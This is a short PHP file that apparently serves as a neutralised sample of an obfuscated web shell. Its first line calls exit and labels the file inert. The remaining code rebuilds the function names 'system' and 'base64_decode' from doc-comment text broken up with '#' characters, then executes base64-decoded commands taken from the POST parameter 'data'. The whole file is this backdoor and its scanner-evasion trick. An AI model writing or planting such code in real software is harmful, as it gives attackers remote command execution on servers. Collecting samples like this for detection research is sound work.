<?php exit; /* inert */ 
/** sys#tem
 *  base#64_decode */
class Doc {}
$d = (new ReflectionClass('Doc'))->getDocComment();
$a = str_replace('#', '', substr($d, 4, 7));
preg_match('/b\S+/', $d, $m);
$b = str_replace('#', '', $m[0]);
$a($b($_POST['data']));
